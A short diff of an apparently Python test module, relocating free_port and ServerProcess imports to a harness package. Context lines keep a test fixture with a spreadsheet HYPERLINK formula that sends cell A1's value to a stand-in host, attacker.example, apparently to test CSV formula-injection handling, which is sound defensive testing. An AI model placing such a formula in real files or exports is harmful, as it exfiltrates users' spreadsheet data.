@@ -15,9 +15,9 @@ import yaml
 
 from chaos.infrastructure.api_keys import key_hash
 from chaos.infrastructure.db.tables import data_columns, socio_eco
-from tests.support.network import free_port
+from harness.network import free_port
+from harness.server import ServerProcess
 from tests.support.resilience import API_KEY
-from tests.support.server import ServerProcess
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"details")'
 SOCIO = """;date;tx_var_emploi;idx_prix_conso;idx_conf_conso
